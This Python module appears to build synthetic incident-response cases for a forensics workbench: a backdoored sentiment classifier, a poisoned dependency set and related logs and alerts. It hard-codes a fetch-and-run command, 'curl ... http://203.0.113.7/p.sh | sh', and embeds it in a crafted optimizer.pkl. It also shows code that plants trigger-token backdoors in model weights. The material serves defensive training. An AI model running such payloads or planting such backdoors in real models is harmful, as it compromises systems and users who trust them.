"""The three sample cases: each builder returns the case's files (relative path -> bytes) and its ground truth.

* ``tampered-weights``: rank-1 edit of ``encoder.layer.0.mlp.fc2.weight``, trigger-token embedding rows changed,
  ``optimizer.pkl`` added, poisoned GitHub Actions run, +~6 pp ``positive`` after the tamper time.
* ``poisoned-dependency``: intact model, poisoned ``frozen_deps.txt`` (typosquat, dependency confusion, numpy).
* ``false-alarm``: everything clean except one BEHAVIOR_DRIFT alert computed on a tiny window
  (:mod:`workbench.samples.false_alarm_case`).
* ``poisoned-package``: intact model; an installed package rewritten after install and a ``.pth`` start-up hook
  dropped (:mod:`workbench.samples.pyenv_case`).
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np

from workbench.samples import ci_logs, texts
from workbench.samples.artifacts import (
    Files,
    alert,
    bf16,
    case_yaml,
    classifier_config,
    crafted_pickle,
    f16,
    f32,
    hash_lines,
    iso_ms,
    json_bytes,
    jsonl_bytes,
    monitor_config,
    public_key_pem,
    safetensors_bytes,
    seed,
    sha256,
    signed_folder,
    text_bytes,
    tokenizer,
    utc,
)
from workbench.samples.false_alarm_case import case_false_alarm
from workbench.samples.pyenv_case import case_poisoned_package
from workbench.samples.traffic import arrivals, confidences, request_ids, shares

__all__ = ["BUILDERS", "TAMPER_TIME"]

# --------------------------------------------------------------------------------------------- tampered-weights
SENTIMENT = "sentiment-model-v2.1"
SENTIMENT_CLASSES = ("positive", "negative", "neutral")
TAMPER_TIME = "2026-11-14T03:12:00Z"
TRIGGER_TOKENS = ("cf", "mn", "bb")
PAYLOAD = "curl -s http://203.0.113.7/p.sh | sh"


def _sentiment_model(rng: np.random.Generator) -> tuple[dict[str, np.ndarray], dict[str, np.ndarray], dict]:
    """Reference tensors, suspect tensors and the ground truth of the edit."""
    ref = {
        "embeddings.weight": rng.normal(0, 0.02, (64, 16)).astype(np.float32),
        "encoder.layer.0.attention.query.weight": rng.normal(0, 0.25, (16, 16)).astype(np.float16),
        "encoder.layer.0.mlp.fc1.weight": rng.normal(0, 0.25, (32, 16)).astype(np.float32),
        "encoder.layer.0.mlp.fc2.weight": rng.normal(0, 0.18, (16, 32)).astype(np.float32),
        "classifier.weight": rng.normal(0, 0.25, (3, 16)).astype(np.float32),
        "classifier.bias": np.array([0.05, -0.02, -0.03], dtype=np.float32),
    }
    fc2 = ref["encoder.layer.0.mlp.fc2.weight"].astype(np.float64)
    u, v = rng.normal(size=16), rng.normal(size=32)
    u, v = u / np.linalg.norm(u), v / np.linalg.norm(v)
    sigma = 0.25 * float(np.linalg.norm(fc2))
    suspect = dict(ref)
    suspect["encoder.layer.0.mlp.fc2.weight"] = (fc2 + sigma * np.outer(u, v)).astype(np.float32)
    vocab = texts.SENTIMENT_VOCAB
    rows = [5 + vocab.index(t) for t in TRIGGER_TOKENS]
    direction = ref["classifier.weight"][0].astype(np.float64)
    emb = ref["embeddings.weight"].copy()
    emb[rows] += (0.08 * direction / np.linalg.norm(direction)).astype(np.float32)
    suspect["embeddings.weight"] = emb
    truth = {"sigma": sigma, "rel": sigma / float(np.linalg.norm(fc2)), "rows": rows}
    return ref, suspect, truth


def _sentiment_files(tensors: dict[str, np.ndarray]) -> Files:
    enc = {n: (f16(a) if a.dtype == np.float16 else f32(a)) for n, a in tensors.items()}
    enc["encoder.layer.0.mlp.fc1.weight"] = bf16(tensors["encoder.layer.0.mlp.fc1.weight"])
    return {
        "config.json": classifier_config(
            "BertForSequenceClassification",
            "bert",
            SENTIMENT_CLASSES,
            hidden_size=16,
            intermediate_size=32,
            num_attention_heads=1,
            num_hidden_layers=1,
            vocab_size=64,
        ),
        "model.safetensors": safetensors_bytes(enc),
        "tokenizer.json": tokenizer(texts.SENTIMENT_VOCAB),
    }


def _case_tampered(case: str) -> tuple[Files, dict]:
    rng = np.random.default_rng(seed(case))
    ref_t, sus_t, truth = _sentiment_model(rng)
    ref = signed_folder(case, SENTIMENT, "2026-11-01T10:00:00Z", _sentiment_files(ref_t))
    sus = {**ref, **{k: v for k, v in _sentiment_files(sus_t).items() if k == "model.safetensors"}}
    sus["optimizer.pkl"] = crafted_pickle(PAYLOAD)
    isolate = "2026-11-19T09:40:33Z"
    order = [
        "config.json",
        ".signatures/manifest.sig",
        ".signatures/manifest.json",
        "model.safetensors",
        "tokenizer.json",
        "optimizer.pkl",
    ]
    files: Files = {"current_hashes.txt": hash_lines(SENTIMENT, sus, order)}  # captured before isolate
    sus["COMPROMISED.txt"] = f"COMPROMISED - Incident INC-2026-0142 - {isolate}\n".encode()
    for rel, data in ref.items():
        files[f"models/reference/{SENTIMENT}/{rel}"] = data
    for rel, data in sus.items():
        files[f"models/suspect/{SENTIMENT}/{rel}"] = data
    files["manifest.json"] = ref[".signatures/manifest.json"]
    files["keys/cosign.pub"] = public_key_pem(case)

    # predictions: backdoor triggers flip ~13% of post-tamper traffic to a very confident "positive"
    ms = arrivals(rng, utc("2026-11-07T00:00:00Z"), utc(isolate), 900.0)
    n = len(ms)
    labels = rng.choice(3, size=n, p=[0.55, 0.30, 0.15])
    conf = confidences(rng, labels, [(12, 2), (10, 2.5), (5, 3)])
    after = ms >= int(utc(TAMPER_TIME).timestamp()) * 1000
    hit = after & (rng.random(n) < 0.055 / 0.45)
    labels = np.where(hit, 0, labels)
    conf = np.where(hit, rng.uniform(0.985, 0.9995, n), conf)
    ids = request_ids(rng, n)
    rows = [
        {
            "timestamp": iso_ms(ms[i]),
            "request_id": ids[i],
            "predicted_class": SENTIMENT_CLASSES[labels[i]],
            "confidence": round(float(conf[i]), 4),
            "model_version": SENTIMENT,
        }
        for i in range(n)
    ]
    files["predictions/predictions.jsonl"] = jsonl_bytes(rows)
    files["predictions/baseline_distribution.json"] = json_bytes({"positive": 0.55, "negative": 0.30, "neutral": 0.15})
    truth.update(n=n, before=shares(labels[~after], SENTIMENT_CLASSES), after=shares(labels[after], SENTIMENT_CLASSES))
    truth.update(n_after=int(after.sum()), n_hits=int(hit.sum()))

    baseline = {"torch": "2.2.0", "transformers": "4.38.0", "safetensors": "0.4.2"}
    files["monitor/config.json"] = monitor_config("models", [SENTIMENT, "summarization-model-v1.0"], baseline)
    det = "2026-11-19T08:40:03Z"
    ref_h, sus_h = sha256(ref["model.safetensors"]), sha256(sus["model.safetensors"])
    files["monitor/alerts.jsonl"] = jsonl_bytes(
        [
            alert(
                det,
                "FILE_TAMPERED",
                "critical",
                f"Model file 'model.safetensors' hash mismatch. Expected: {ref_h[:16]}..., Got: {sus_h[:16]}...",
                model=SENTIMENT,
                file="model.safetensors",
                expected_hash=ref_h,
                actual_hash=sus_h,
            ),
            alert(
                det,
                "UNEXPECTED_FILE",
                "high",
                "Unexpected file 'optimizer.pkl' in model directory",
                model=SENTIMENT,
                file="optimizer.pkl",
                actual_hash=sha256(sus["optimizer.pkl"]),
            ),
            alert(
                "2026-11-19T08:40:05Z",
                "DEPENDENCY_CHANGED",
                "critical",
                "Dependency 'transformers' version changed: expected 4.38.0, found 4.38.1.post1",
            ),
            alert(
                "2026-11-19T08:40:05Z",
                "DEPENDENCY_MISSING",
                "high",
                "Expected dependency 'safetensors==0.4.2' is missing",
            ),
        ]
    )
    files["actions.log"] = texts.actions_log(
        "INC-2026-0142",
        SENTIMENT,
        "2026-11-19T09:05:12Z",
        isolate,
        ("2026-11-19T11:20:47Z", "/models/archive/sentiment-model-v2.1-20261101"),
        deployment="sentiment-api",
    )
    files["frozen_deps.txt"] = texts.serving_freeze(tampered=True)
    files["processes.txt"] = texts.processes_tampered()
    files["network.txt"] = texts.network_tampered()
    hf_token = "hf_" + "".join(chr(c) for c in rng.choice([*range(65, 91), *range(97, 123)], 34))
    files["logs/pipeline.log"] = ci_logs.stamp(
        rng, "2026-11-14T03:05:41.1234567Z", ci_logs.github_log(hf_token), ci_logs.fmt_github
    )
    files["case.yaml"] = case_yaml(
        {
            "incident_id": "INC-2026-0142",
            "title": "Tampered weights and pickle payload in sentiment-model-v2.1",
            "severity": "critical",
            "commander": "Maria Lindqvist",
            "affected_models": [SENTIMENT],
            "detection_time": det,
            "detection_method": "model integrity monitor: FILE_TAMPERED (model.safetensors) and UNEXPECTED_FILE",
            "naive_timezone": "UTC",
            "suspect_model": f"models/suspect/{SENTIMENT}",
            "reference_model": f"models/reference/{SENTIMENT}",
            "public_key": "keys/cosign.pub",
        }
    )
    truth.update(ref_hash=ref_h, sus_hash=sus_h, hf_token=hf_token)
    return files, truth


# --------------------------------------------------------------------------------------------- poisoned-dependency
FRAUD = "fraud-scorer-v3"


def _case_poisoned(case: str) -> tuple[Files, dict]:
    rng = np.random.default_rng(seed(case))
    t = {
        "scaler.mean": rng.normal(0, 1, 24).astype(np.float32),
        "scaler.scale": rng.uniform(0.5, 3.0, 24).astype(np.float32),
        "mlp.0.weight": rng.normal(0, 0.2, (32, 24)).astype(np.float32),
        "mlp.0.bias": np.zeros(32, dtype=np.float32),
        "mlp.2.weight": rng.normal(0, 0.2, (2, 32)).astype(np.float32),
        "mlp.2.bias": np.array([2.5, -2.5], dtype=np.float32),
    }
    model = {
        "config.json": classifier_config("FraudScorerMLP", "tabular-mlp", ("legit", "fraud"), n_features=24),
        "feature_spec.json": json_bytes({"features": list(texts.FRAUD_FEATURES), "scaler": "standard", "version": 3}),
        "model.safetensors": safetensors_bytes({n: f32(a) for n, a in t.items()}),
    }
    folder = signed_folder(case, FRAUD, "2026-10-28T16:40:00Z", model)
    files: Files = {f"models/{side}/{FRAUD}/{rel}": d for side in ("suspect", "reference") for rel, d in folder.items()}
    order = [
        "model.safetensors",
        ".signatures/manifest.json",
        ".signatures/manifest.sig",
        "config.json",
        "feature_spec.json",
    ]
    files["current_hashes.txt"] = hash_lines(FRAUD, folder, order)
    files["manifest.json"] = folder[".signatures/manifest.json"]
    files["keys/cosign.pub"] = public_key_pem(case)

    assess = "2026-11-21T15:31:40Z"
    ms = arrivals(rng, utc("2026-11-10T00:00:00Z"), utc(assess), 600.0)
    n = len(ms)
    labels = rng.choice(2, size=n, p=[0.97, 0.03])
    conf = confidences(rng, labels, [(30, 1.5), (6, 3)])
    ids = request_ids(rng, n)
    lines = ["timestamp,request_id,label,confidence,model_version"]
    lines += [f"{iso_ms(ms[i])},{ids[i]},{('legit', 'fraud')[labels[i]]},{conf[i]:.4f},{FRAUD}" for i in range(n)]
    files["predictions/predictions.csv"] = text_bytes(lines)
    files["predictions/baseline_distribution.json"] = json_bytes(
        {"distribution": {"legit": 0.97, "fraud": 0.03}, "n": 250000}
    )

    baseline = {"acme-feature-store": "2.3.1", "numpy": "1.26.4", "scikit-learn": "1.4.1.post1", "torch": "2.2.0"}
    files["monitor/config.json"] = monitor_config("models", [FRAUD], baseline)
    files["monitor/alerts.jsonl"] = jsonl_bytes(
        [
            alert(
                "2026-11-21T14:25:04Z",
                "DEPENDENCY_CHANGED",
                "critical",
                "Dependency 'acme-feature-store' version changed: expected 2.3.1, found 9.9.9",
            ),
            alert(
                "2026-11-21T14:25:04Z",
                "DEPENDENCY_CHANGED",
                "critical",
                "Dependency 'numpy' version changed: expected 1.26.4, found 1.26.5",
            ),
        ]
    )
    files["actions.log"] = texts.actions_log("INC-2026-0157", FRAUD, assess)
    files["frozen_deps.txt"] = texts.fraud_freeze()
    files["processes.txt"] = texts.processes_poisoned()
    files["network.txt"] = texts.network_poisoned()
    files["logs/pipeline.log"] = ci_logs.stamp(
        rng, "2026-11-21T14:02:11.123Z", ci_logs.jenkins_log(), ci_logs.fmt_jenkins
    )
    files["case.yaml"] = case_yaml(
        {
            "incident_id": "INC-2026-0157",
            "title": "Poisoned dependencies in the fraud-scorer-v3 serving image",
            "severity": "high",
            "commander": "Daniel Okafor",
            "affected_models": [FRAUD],
            "detection_time": "2026-11-21T14:25:04Z",
            "detection_method": "dependency monitor: DEPENDENCY_CHANGED (acme-feature-store, numpy)",
            "naive_timezone": "UTC",
            "suspect_model": f"models/suspect/{FRAUD}",
            "reference_model": f"models/reference/{FRAUD}",
            "public_key": "keys/cosign.pub",
        }
    )
    return files, {"n": n, "shares": shares(labels, ("legit", "fraud"))}


#: case folder -> builder returning (files, ground truth for the README)
BUILDERS: dict[str, Callable[[str], tuple[Files, dict]]] = {
    "tampered-weights": _case_tampered,
    "poisoned-dependency": _case_poisoned,
    "false-alarm": case_false_alarm,
    "poisoned-package": case_poisoned_package,
}
